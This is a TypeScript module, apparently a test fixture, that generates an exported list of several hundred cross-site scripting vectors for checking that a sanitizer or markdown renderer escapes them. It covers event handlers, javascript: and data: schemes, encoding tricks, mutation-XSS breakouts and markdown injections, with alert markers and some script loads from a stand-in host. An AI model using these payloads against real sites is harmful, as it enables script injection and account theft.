/** What runs a script where text gets into a page unescaped. `RUN` stands for the call that gives it away. */
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
];
const elements = [
  'img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'audio src=x', 'marquee', 'iframe src=x',
  'object data=x', 'select autofocus', 'button autofocus', 'a href=x', 'style', 'animate',
]; // prettier-ignore
const byHandler = elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}=RUN>`));

const schemes = [
  'javascript:RUN', 'JaVaScRiPt:RUN', ' javascript:RUN', 'java\tscript:RUN', '&#106;avascript:RUN', '&#x6A;avascript:RUN',
  'javascript&colon;RUN', 'javascript&#58;RUN', '%6aavascript:RUN', 'vbscript:RUN', 'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=', 'data:image/svg+xml,<svg onload=RUN>', 'feed:javascript:RUN',
  'view-source:javascript:RUN', 'jar:javascript:RUN', 'javascript://example.jp/%0aRUN', '//evil.example/', '\\\\evil.example\\',
  'https:javascript:RUN', '\u0001javascript:RUN', 'x:javascript:RUN', 'blob:https://evil.example/1', 'file:///etc/passwd',
]; // prettier-ignore
const links = schemes.flatMap((scheme) => [`[x](${scheme})`, `[x](<${scheme}> "t")`, `![" onerror="RUN](${scheme})`]);
const references = schemes
  .slice(0, 8)
  .flatMap((scheme, index) => [`[r${index}]\n\n[r${index}]: ${scheme}`, `<${scheme}>`]);

const breakouts = [
  '<script>RUN</script>', '</title><script>RUN</script>', '</textarea><script>RUN</script>', '</style><script>RUN</script>',
  '</pre><script>RUN</script>', '</code></pre><img src=x onerror=RUN>', '--><script>RUN</script>', ']]><script>RUN</script>',
  '"><script>RUN</script>', "'><script>RUN</script>", '" onmouseover="RUN" x="', "' onfocus='RUN' autofocus='", '`onload=RUN`',
  '<scr<script>ipt>RUN</scr</script>ipt>', '<ScRiPt\n>RUN</sCrIpT\n>', '<script/x>RUN</script>', '<script src=//evil.example/x.js></script>',
  '<script\u3000>RUN</script>', '\u2028<script>RUN</script>', '<\u0000script>RUN</script>', '＜script＞RUN＜/script＞', '<<script>RUN//<</script>',
  '&lt;script&gt;RUN&lt;/script&gt;', '&amp;lt;script&amp;gt;RUN', '\\<script>RUN\\</script>', '<script>RUN<!--', '{{RUN}}', '${RUN}',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN>', '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<svg><style><img src=x onerror=RUN></style></svg>', '<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>',
  '<template><script>RUN</script></template>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
  '<svg></p><style><a id="</style><img src=1 onerror=RUN>">', '<xmp><p title="</xmp><img src=x onerror=RUN>">',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>', '<object data="javascript:RUN"></object>', '<embed src="javascript:RUN">',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">', '<base href="javascript:RUN//">', '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>', '<div style="background:url(//evil.example/x)">', '<form action=javascript:RUN><button>x</button></form>',
  '<input type=image src=x onerror=RUN>', '<isindex action=javascript:RUN>', '<portal src=//evil.example/>', '<dialog open onclose=RUN>',
  '```"><img src=x onerror=RUN>\nx\n```', '```<script>RUN</script>\nx\n```', '~~~ html onload=RUN\n<script>RUN</script>\n~~~',
  '    <script>RUN</script>', '|a|\n|-|\n|<img src=x onerror=RUN>|', '- <img src=x onerror=RUN>', '> <svg onload=RUN>', '1. <details open ontoggle=RUN>',
  '### <img src=x onerror=RUN>', '**<svg/onload=RUN>**', '`</code><img src=x onerror=RUN>`', '[<img src=x onerror=RUN>](https://example.jp/)',
  '[x](https://example.jp/"onmouseover="RUN)', '[x](https://example.jp/ "t\\" onmouseover=RUN x=\\"")', '<https://example.jp/"onclick=RUN>',
  'https://example.jp/"onmouseover="RUN', '[^1]\n\n[^1]: <img src=x onerror=RUN>', '<!-- <img src=x onerror=RUN> -->', '<![CDATA[<img src=x onerror=RUN>]]>',
  '<?xml-stylesheet href="javascript:RUN"?>', '<!DOCTYPE x [<!ENTITY y "RUN">]>', '<br onclick=RUN>', '<br/onmouseover=RUN>',
  '1-2-3"><script>RUN</script>', '000-0000-0000<img src=x onerror=RUN>', '<span class="number" onmouseover=RUN>1-2-3</span>',
]; // prettier-ignore

/** Each gives itself away by `alert(<its number>)`. */
export const xssVectors: readonly string[] = [...breakouts, ...links, ...references, ...byHandler].map(
  (vector, index) =>
    vector
      .replaceAll('RUN', `alert(${index})`)
      .replaceAll('PHNjcmlwdD5SVU48L3NjcmlwdD4=', btoa(`<script>alert(${index})</script>`)),
);
